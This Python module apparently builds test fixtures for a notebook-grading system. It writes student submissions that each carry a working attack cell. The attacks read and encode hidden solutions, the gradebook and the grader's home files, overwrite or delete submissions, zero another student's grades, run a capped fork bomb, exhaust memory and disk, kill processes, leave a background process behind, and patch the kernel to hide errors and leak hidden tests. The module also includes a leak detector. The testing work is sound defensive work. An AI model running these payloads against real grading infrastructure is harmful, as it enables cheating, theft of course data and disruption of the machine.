"""A hostile class: rain_water submissions that each try one thing a hostile or careless
student would try during grading.

Every submission is the released notebook, untouched (the stubs, like the demo student
ben), plus ONE extra code cell without nbgrader metadata right after the first solution
cell. What the cell does is described by its :class:`Attack`; the values it needs (the
course root an attacker would guess, the ports the test listens on, a marker path) come
from a :class:`Target` and are put at the top of the cell as a plain dict ``T``.

Four attacks would hurt the machine without a sandbox (fork bomb, 64 GiB, 20 GB on disk,
killing every process), and deleting the gradebook would wreck the whole run and hide what
the other attacks did: these carry a ``sandbox_only`` reason and are only written when
grading runs in the sandbox. Even then each one stays bounded in case the sandbox has a hole:
the fork bomb creates at most ``Target.bomb_cap`` processes, the allocation stops while the
machine still has memory available, the disk filler stops at ``Target.disk_cap`` bytes per
folder (and before a big file system runs low), and the killer refuses to run when it shares
the machine's PID namespace.

``tests/test_hostile.py`` grades this class together with the demo class and checks what
each attack achieved.
"""
from __future__ import annotations

import base64
import binascii
import html
import re
import textwrap
from dataclasses import asdict, dataclass
from pathlib import Path

import nbformat

from course.notebooks import nbgrader_meta

TOPIC = "rain_water"
# strings the feedback must never carry, even encoded (built so that this file and the
# attack cells do not contain them literally)
TELL_TALES = ("### " + "BEGIN SOLUTION", "### " + "BEGIN HIDDEN TESTS", "### " + "END HIDDEN TESTS")


@dataclass(frozen=True)
class Target:
    """What the attacks aim at (written into each cell as the dict ``T``)."""
    root: str            # the course root (an attacker can guess it; the cells also derive it from the cwd)
    home: str            # the home folder of the user who grades (holds a canary file)
    tcp: int             # 127.0.0.1 port on which the test accepts TCP connections
    udp: int             # 127.0.0.1 port on which the test receives UDP datagrams
    marker: str          # a file the background process tries to write; must never exist
    tag: str             # unique word in the command line of the background process and in file names
    host_pidns: str      # readlink /proc/self/ns/pid of the test: the killer refuses to run in it
    delay: float = 5.0   # seconds the background process waits before it edits files
    bomb_cap: int = 300  # processes the fork bomb creates at most
    memory_cap_gib: float = 6.0     # the allocation stops here even without a limit
    disk_cap: int = 2 * 2**30       # bytes written per folder at most, even without a limit


@dataclass(frozen=True)
class Attack:
    student: str
    what: str                     # one line for the report
    source: str                   # the extra cell (uses T)
    sandbox_only: str = ""        # why it is only written when grading is sandboxed ("" = always)
    report: str | None = None     # regex the student's problems must match (sandboxed)


# --- shared pieces of the cells ---------------------------------------------------------------------

_ROOTS = '''
import os as _os
from pathlib import Path as _Path

def _roots():
    """Where the course may be: three folders above the kernel's cwd, relative and absolute,
    and the path an attacker guessed."""
    here = _Path.cwd()
    found = [_Path("..", "..", "..")]
    if len(here.parents) >= 3:
        found.append(here.parents[2])
    found.append(_Path(T["root"]))
    return found
'''

_SHOW = '''
import base64 as _b64
import sys as _sys

def _show(label, text):
    """Print text three ways: base64 and reversed on stdout, hex on stderr."""
    data = text.encode("utf-8", "replace")
    print(label, "base64", _b64.b64encode(data).decode())
    print(label, "hex", data.hex(), file=_sys.stderr)
    print(label, "reversed", " | ".join(text.splitlines())[::-1])
'''


def _cell(*parts: str) -> str:
    return "\n".join(textwrap.dedent(p).strip("\n") for p in parts) + "\n"


# --- the attacks ------------------------------------------------------------------------------------

READ_SOURCE = _cell(_ROOTS, _SHOW, '''
import json as _json
import re as _re

_mark = "### " + "BEGIN"
for _root in _roots():
    for _topic in ("from_scratch", "rain_water"):
        _path = _root / "source" / _topic / f"{_topic}.ipynb"
        try:
            _nb = _json.loads(_path.read_text())
        except Exception as _error:
            print(f"{_path}: {type(_error).__name__}")
            continue
        _text = "\\n".join("".join(c["source"]) for c in _nb["cells"] if _mark in "".join(c["source"]))
        _show(str(_path), _text)
''')

READ_GRADEBOOK = _cell(_ROOTS, _SHOW, '''
import sqlite3 as _sqlite3

for _root in _roots():
    _path = _root / "gradebook.db"
    try:
        with _sqlite3.connect(f"file:{_path}?mode=ro", uri=True, timeout=5) as _db:
            _tables = [r[0] for r in _db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
            _cells = [r[0] or "" for r in _db.execute("SELECT source FROM source_cell")]
            _grades = _db.execute("SELECT * FROM grade").fetchall()
    except Exception as _error:
        print(f"{_path}: {type(_error).__name__}")
        continue
    _show(f"{_path} tables", " ".join(_tables))
    _show(f"{_path} cells", "\\n".join(_cells))
    _show(f"{_path} grades", repr(_grades[:50]))
''')

READ_HOME = _cell(_SHOW, '''
import os as _os

for _folder in sorted({_os.path.expanduser("~"), "/root", T["home"]}):
    try:
        _names = sorted(_os.listdir(_folder))
    except Exception as _error:
        print(f"{_folder}: {type(_error).__name__}")
        continue
    _show(f"{_folder} list", "\\n".join(_names))
    if _folder == "/root":
        continue  # only listed: the files read are those of the grader's home (a canary)
    for _name in _names:
        _path = _os.path.join(_folder, _name)
        if _name.endswith(".txt") and _os.path.isfile(_path):
            try:
                with open(_path, errors="replace") as _f:
                    _show(_path, _f.read(100_000))
            except Exception as _error:
                print(f"{_path}: {type(_error).__name__}")
''')

OVERWRITE_SUBMITTED = _cell(_ROOTS, '''
for _root in _roots():
    for _action, _path in (("overwrite", _root / "submitted" / "ada" / "rain_water" / "rain_water.ipynb"),
                           ("delete", _root / "submitted" / "cho" / "rain_water" / "rain_water.ipynb")):
        try:
            _path.write_text("{}") if _action == "overwrite" else _path.unlink()
            print(_action, _path, "done")
        except Exception as _error:
            print(_action, _path, type(_error).__name__)
''')

DELETE_RELEASE = _cell(_ROOTS, '''
import shutil as _shutil

for _root in _roots():
    _folder = _root / "release"
    try:
        (_folder / "rain_water" / "rain_water.ipynb").write_text("{}")
        _shutil.rmtree(_folder)
        print("deleted", _folder)
    except Exception as _error:
        print(_folder, type(_error).__name__)
''')

OVERWRITE_SOURCE = _cell(_ROOTS, '''
for _root in _roots():
    for _action, _path in (("overwrite", _root / "source" / "from_scratch" / "from_scratch.ipynb"),
                           ("delete", _root / "source" / "rain_water" / "rain_water.ipynb")):
        try:
            _path.write_text("{}") if _action == "overwrite" else _path.unlink()
            print(_action, _path, "done")
        except Exception as _error:
            print(_action, _path, type(_error).__name__)
''')

TAMPER_GRADEBOOK = _cell(_ROOTS, '''
import sqlite3 as _sqlite3

for _root in _roots():
    _path = _root / "gradebook.db"
    if not _path.exists():
        print(_path, "not found")
        continue
    try:
        with _sqlite3.connect(str(_path), timeout=10) as _db:
            _db.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN ("
                        "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                        "ON sn.assignment_id = sa.id WHERE sa.student_id = 'ada')")
        print("ada's grades set to 0 in", _path)
    except Exception as _error:
        print(_path, type(_error).__name__)
''')

DELETE_GRADEBOOK = _cell(_ROOTS, '''
for _root in _roots():
    _path = _root / "gradebook.db"
    try:
        _path.unlink()
        _path.write_bytes(b"not a database any more")
        print("replaced", _path)
    except Exception as _error:
        print(_path, type(_error).__name__)
''')

FORK_BOMB = _cell('''
import os as _os
import time as _time

# A fork bomb with a cap: the tree holds at most T["bomb_cap"] processes (split between the
# children), each retrying its failed forks and exiting 15 s after the start.
_end = _time.monotonic() + 15
_kernel = _os.getpid()
_budget, _made, _failed = T["bomb_cap"], 0, 0
while _budget > 0 and _time.monotonic() < _end:
    _child_share = (_budget - 1) // 2
    try:
        _pid = _os.fork()
    except OSError:
        _failed += 1
        _time.sleep(0.1)
        continue
    if _pid == 0:
        _budget = _child_share
    else:
        _budget -= 1 + _child_share
        _made += 1
if _os.getpid() != _kernel:
    while _time.monotonic() < _end:
        _time.sleep(0.5)
    _os._exit(0)
print(f"fork bomb: {_made} direct children, {_failed} failed forks")
''')

MEMORY = _cell('''
import numpy as _np

_GiB = 2**30

def _available():
    with open("/proc/meminfo") as _f:
        for _line in _f:
            if _line.startswith("MemAvailable:"):
                return int(_line.split()[1]) * 1024
    return 0

_chunks = []
while len(_chunks) < 64 * 4:  # 64 GiB in quarters, each one touched
    if len(_chunks) >= T["memory_cap_gib"] * 4 or _available() < 4 * _GiB:
        raise RuntimeError(f"allocated {len(_chunks) / 4:g} GiB and nothing stopped it")
    _chunks.append(_np.ones(_GiB // 4 // 8))
''')

DISK = _cell('''
import os as _os
import tempfile as _tempfile

_chunk = bytes(16 * 2**20)
for _folder in (_os.getcwd(), _tempfile.gettempdir(), "/tmp"):
    _path = _os.path.join(_folder, f"hostile-fill-{T['tag']}.bin")
    _written = 0
    try:
        with open(_path, "wb") as _f:
            while _written < 20 * 10**9 and _written < T["disk_cap"]:
                _st = _os.statvfs(_folder)
                # spare the machine's own disk (a big file system with little room left);
                # a small one (the sandbox's tmpfs) is filled to the brim
                if _st.f_blocks * _st.f_frsize > 4 * T["disk_cap"] and _st.f_bavail * _st.f_frsize < 8 * 2**30:
                    break
                _f.write(_chunk)
                _f.flush()
                _written += len(_chunk)
        print(_path, _written, "bytes written")
    except Exception as _error:
        print(_path, _written, "bytes written, then", type(_error).__name__)
''')

PRINT = _cell('''
_line = "x" * (2**20 - 1)
for _ in range(200):  # 200 MiB
    print(_line)
''')

NETWORK = _cell('''
import socket as _socket

try:
    with _socket.create_connection(("127.0.0.1", T["tcp"]), timeout=3) as _s:
        _s.sendall(b"hostile tcp " + T["tag"].encode())
    print("tcp: sent")
except Exception as _error:
    print("tcp:", type(_error).__name__, _error)
try:
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _u:
        _u.sendto(b"hostile udp " + T["tag"].encode(), ("127.0.0.1", T["udp"]))
    print("udp: sent")
except Exception as _error:
    print("udp:", type(_error).__name__, _error)
''')

KILL_PARENT = _cell('''
import os as _os
import signal as _signal

print("killing my parent", _os.getppid())
_os.kill(_os.getppid(), _signal.SIGKILL)
''')

KILL_ALL = _cell('''
import os as _os
import signal as _signal

# never without a PID namespace of its own: that would kill every process of the machine
try:
    _ns = _os.readlink("/proc/self/ns/pid")
except OSError as _error:
    raise RuntimeError(f"refusing to kill every process: cannot read my PID namespace ({_error})")
if _ns == T["host_pidns"]:
    raise RuntimeError("refusing to kill every process: this kernel shares the PID namespace of the machine")
_killed = []
for _name in _os.listdir("/proc"):
    if _name.isdigit() and int(_name) != _os.getpid():
        try:
            _os.kill(int(_name), _signal.SIGKILL)
            _killed.append(int(_name))
        except OSError:
            pass
print("killed", _killed)
_os.kill(-1, _signal.SIGKILL)
''')

BACKGROUND = _cell(_ROOTS, '''
import os as _os
import sys as _sys

# what the process left behind does, T["delay"] s later and then every second for a minute
_code = """
import sys, time, pathlib
delay, marker, targets = float(sys.argv[2]), sys.argv[3], sys.argv[4:]
time.sleep(delay)
for second in range(60):
    for path in [marker] + targets:
        try:
            with open(path, "a") as f:
                f.write("left behind by a hostile submission\\\\n")
        except OSError:
            pass
    time.sleep(1)
"""
_targets = [str((_r / "submitted" / "ada" / "rain_water" / "left-behind.txt").absolute()) for _r in _roots()]
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        _null = _os.open(_os.devnull, _os.O_RDWR)
        for _fd in (0, 1, 2):
            _os.dup2(_null, _fd)
        _os.closerange(3, 65536)
        _os.execv(_sys.executable, [_sys.executable, "-c", _code, T["tag"], str(T["delay"]), T["marker"]] + _targets)
    _os._exit(0)
_os.waitpid(_pid, 0)
print("left a process behind")
''')

HIDE_TRACEBACK = _cell('''
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
_ip.showsyntaxerror = lambda *args, **kwargs: None
''')

EXCEPTHOOK = _cell('''
import sys as _sys

_sys.excepthook = lambda *args: None
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
''')

PATCH_REPLY = _cell('''
import inspect as _inspect

_ip = get_ipython()
_kernel = _ip.kernel
_ok = lambda reply: {"status": "ok", "execution_count": reply.get("execution_count"),
                     "user_expressions": {}, "payload": []}

def _patch_session(session):
    original = session.send

    def send(stream, msg_or_type, content=None, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
        if kind == "error":
            return None  # error outputs never leave the kernel
        if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
            content = _ok(content)
        return original(stream, msg_or_type, content, *args, **kwargs)
    session.send = send

for _session in {id(s): s for s in (_kernel.session, getattr(_ip.displayhook, "session", None),
                                     getattr(_ip.display_pub, "session", None)) if s is not None}.values():
    _patch_session(_session)

_do_execute = _kernel.do_execute

async def _always_ok(*args, **kwargs):
    reply = _do_execute(*args, **kwargs)
    if _inspect.isawaitable(reply):
        reply = await reply
    return _ok(reply) if isinstance(reply, dict) and reply.get("status") == "error" else reply

_kernel.do_execute = _always_ok
''')

HOOK_SWALLOW = _cell('''
_ip = get_ipython()

def _quiet(*args, **kwargs):
    return None

def _before(info):  # again before every cell, in case the grader puts the originals back
    _ip.showtraceback = _quiet
    _ip._showtraceback = _quiet

def _after(result):
    result.error_in_exec = None
    result.error_before_exec = None

_ip.events.register("pre_run_cell", _before)
_ip.events.register("post_run_cell", _after)
''')

AST_SWALLOW = _cell('''
import ast as _ast

class _Swallow(_ast.NodeTransformer):
    """Wrap every later cell in try/except BaseException: pass."""

    def visit_Module(self, node):
        if not node.body:
            return node
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_Swallow())
''')

_RECORDER = '''
import base64 as _b64

_ip = get_ipython()
_seen = []
_ip.events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))

def _payload():
    """Every hidden-test cell run so far, newest first, without the lines they all start with."""
    parts = []
    for src in reversed(_seen):
        if "HIDDEN" in src:
            start = src.find("def _")
            parts.append(src[start:] if start >= 0 else src)
    return "\\n".join(parts)

_encoders = {
    "trap_brute_force": lambda text: _b64.b64encode(text.encode()).decode(),
    "trap": lambda text: text.encode().hex(),
    "trap_two_pointers": lambda text: " | ".join(text.splitlines())[::-1],
    "water_levels": lambda text: _b64.b64encode(text.encode()).decode(),
}
'''

EXFIL_RAISE = _cell(_RECORDER, '''
def _leaker(name):
    def leak(*args, **kwargs):
        raise ValueError(_encoders[name](_payload()))
    leak.__name__ = name
    return leak

_evil = {name: _leaker(name) for name in _encoders}

def _rebind(result):  # the stub cells that follow would put the stubs back: undo that
    _ip.user_ns.update(_evil)

_ip.user_ns.update(_evil)
_ip.events.register("post_run_cell", _rebind)
''')

EXFIL_PRINT = _cell(_RECORDER, '''
def _printer(name):
    def leak(*args, **kwargs):
        print(name, _encoders[name](_payload()))
        return 0
    leak.__name__ = name
    return leak

_evil = {name: _printer(name) for name in _encoders}

def _rebind(result):
    _ip.user_ns.update(_evil)

_ip.user_ns.update(_evil)
_ip.events.register("post_run_cell", _rebind)
''')

MACHINE = "would hurt the machine without a sandbox"
TAMPERS = r"\S"  # a submission that tampers with the kernel must be named (any problem text)

ATTACKS: list[Attack] = [
    Attack("h-read-source", "reads source/ of two topics (relative, absolute, guessed root) and prints it "
           "as base64, hex and reversed", READ_SOURCE),
    Attack("h-read-gradebook", "reads gradebook.db with sqlite3 (tables, cell sources, grades), prints them encoded",
           READ_GRADEBOOK),
    Attack("h-read-home", "lists ~, /root and the grader's home, prints the .txt files of the home (a canary) "
           "encoded", READ_HOME),
    Attack("h-overwrite-submitted", "overwrites ada's submission with {} and deletes cho's", OVERWRITE_SUBMITTED),
    Attack("h-delete-release", "overwrites release/rain_water and deletes release/", DELETE_RELEASE),
    Attack("h-overwrite-source", "overwrites source/from_scratch and deletes source/rain_water", OVERWRITE_SOURCE),
    Attack("h-tamper-gradebook", "sets ada's grades in gradebook.db to 0 (manual_score)", TAMPER_GRADEBOOK),
    Attack("h-delete-gradebook", "deletes gradebook.db and puts junk in its place", DELETE_GRADEBOOK,
           sandbox_only="wrecks the whole run without a sandbox, which hides what the other attacks did"),
    Attack("h-fork-bomb", "fork bomb (capped at Target.bomb_cap processes, 15 s)", FORK_BOMB, sandbox_only=MACHINE,
           report=r"(?i)process"),
    Attack("h-memory", "allocates 64 GiB with numpy.ones, a quarter GiB at a time", MEMORY, sandbox_only=MACHINE,
           report=r"(?i)memory"),
    Attack("h-disk", "writes 20 GB into its cwd and /tmp", DISK, sandbox_only=MACHINE, report=r"(?i)disk"),
    Attack("h-print", "prints 200 MiB", PRINT, report=r"(?i)output"),
    Attack("h-network", "TCP connection and UDP datagram to the test's listener on 127.0.0.1", NETWORK),
    Attack("h-kill-parent", "kills its parent process", KILL_PARENT),
    Attack("h-kill-all", "kills every process it can see (/proc loop, then kill(-1))", KILL_ALL, sandbox_only=MACHINE),
    Attack("h-background", "leaves a process behind (double fork, setsid) that writes into submitted/ and a "
           "marker file after a delay", BACKGROUND),
    Attack("h-hide-traceback", "replaces IPython's showtraceback and _showtraceback", HIDE_TRACEBACK,
           report=TAMPERS),
    Attack("h-excepthook", "replaces sys.excepthook and installs a custom exception handler that swallows",
           EXCEPTHOOK, report=TAMPERS),
    Attack("h-patch-reply", "patches the kernel's replies: error outputs dropped, status always ok", PATCH_REPLY,
           report=TAMPERS),
    Attack("h-hook-swallow", "pre_run_cell/post_run_cell hooks that hide every error", HOOK_SWALLOW, report=TAMPERS),
    Attack("h-ast-swallow", "an AST transformer that wraps every later cell in try/except", AST_SWALLOW,
           report=TAMPERS),
    Attack("h-exfil-raise", "records every later cell (pre_run_cell) and raises it encoded from its functions",
           EXFIL_RAISE),
    Attack("h-exfil-print", "records every later cell (pre_run_cell) and prints it encoded from its functions",
           EXFIL_PRINT),
]
BY_STUDENT = {a.student: a for a in ATTACKS}


def attacks(sandboxed: bool) -> list[Attack]:
    """The attacks that may run: all of them in the sandbox, the harmless ones without."""
    return [a for a in ATTACKS if sandboxed or not a.sandbox_only]


def cell_source(attack: Attack, target: Target) -> str:
    return f"T = {asdict(target)!r}\n" + attack.source


def hostile_notebook(release_nb: Path, attack: Attack, target: Target) -> nbformat.NotebookNode:
    """The released notebook with the attack's cell right after the first solution cell."""
    if not isinstance(target, Target):
        raise TypeError(f"target must be a Target, got {type(target).__name__}")
    nb = nbformat.read(str(release_nb), as_version=4)
    first = next((i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("solution")), None)
    if first is None:
        raise ValueError(f"{release_nb} has no solution cell to put the attack after")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(cell_source(attack, target)))
    return nb


def write_class(course: Path, target: Target, chosen: list[Attack]) -> list[str]:
    """Write one submission per attack into course/submitted/<student>/rain_water/; returns the students."""
    course = Path(course)
    release_nb = course / "release" / TOPIC / f"{TOPIC}.ipynb"
    if not release_nb.is_file():
        raise ValueError(f"{course} has no {release_nb.relative_to(course)}: not a copy of the course")
    for attack in chosen:
        dest = course / "submitted" / attack.student / TOPIC / f"{TOPIC}.ipynb"
        dest.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(hostile_notebook(release_nb, attack, target), str(dest))
    return [a.student for a in chosen]


# --- finding secrets in a feedback page, however they were encoded ------------------------------------

_B64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_HEX = re.compile(r"(?:[0-9a-fA-F]{2}){12,}")
_SPLIT = re.compile(r"\n|\\n| \| ")


def decodings(page: str) -> list[tuple[str, str]]:
    """(how, text) for the page itself, the page reversed, and every base64 and hex reading
    of a run of characters in it."""
    text = html.unescape(page)
    found = [("plain", text), ("reversed", text[::-1])]
    for match in _B64.findall(text):
        usable = match.rstrip("=")
        usable = usable[: len(usable) - 1] if len(usable) % 4 == 1 else usable
        usable += "=" * (-len(usable) % 4)
        try:
            found.append(("base64", base64.b64decode(usable).decode("utf-8", "replace")))
        except (binascii.Error, ValueError):
            pass
    for match in _HEX.findall(text):
        found.append(("hex", bytes.fromhex(match).decode("utf-8", "replace")))
    return found


def leaks(page: str, shown_lines: set[str], decoded_lines: set[str], words: tuple[str, ...] = ()) -> list[tuple[str, str]]:
    """(encoding, secret) for every secret found in a feedback page.

    The page as it is and reversed are searched for ``shown_lines`` (hidden-test lines: a
    solution line may be the student's own code) as substrings; every base64 or hex reading
    for ``decoded_lines`` (hidden tests and solutions) as whole lines; all of them for the
    tell-tale markers and ``words`` (canaries).
    """
    out = []
    for how, text in decodings(page):
        text = text.replace('\\"', '"')
        if how in ("plain", "reversed"):
            out += [(how, line) for line in shown_lines if line in text]
        else:
            lines = {line.strip() for line in _SPLIT.split(text)}
            out += [(how, line) for line in decoded_lines & lines]
        out += [(how, word) for word in (*TELL_TALES, *words) if word in text]
    return sorted(set(out))
